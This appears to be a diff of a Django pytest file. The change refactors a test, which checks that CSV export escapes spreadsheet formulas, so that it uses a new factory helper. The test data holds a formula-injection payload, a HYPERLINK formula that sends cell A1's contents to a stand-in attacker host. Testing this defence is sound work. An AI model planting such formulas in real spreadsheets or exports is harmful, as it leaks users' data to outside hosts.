@@ -2,6 +2,8 @@
 
 import pytest
 
+from tests.factories import add_programme
+
 from .compare_readers import read_csv, read_table, read_xlsx
 
 pytestmark = pytest.mark.django_db
@@ -111,15 +113,8 @@ def test_an_unknown_format_is_not_found(client, compared_pages):
 
 
 def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(client, sections):
-    from knowledge.models import ProgrammePage
-
-    from .pages import add_page
-
     title = '=HYPERLINK("http://attacker.example/?"&A1,"Klik")'
-    page = add_page(
-        sections["programmes"]["DK"],
-        ProgrammePage(title_da=title, slug_da="formel", summary_da="@SUM(1+1)", country="DK"),
-    )
+    page = add_programme(sections["programmes"]["DK"], title_da=title, summary_da="@SUM(1+1)")
     rows = read_csv(client.get(f"/da/compare/export/csv/?ids={page.pk}"))
     assert rows[0][1] == "'" + title
     assert ["'@SUM(1+1)"] in [row[1:] for row in rows]
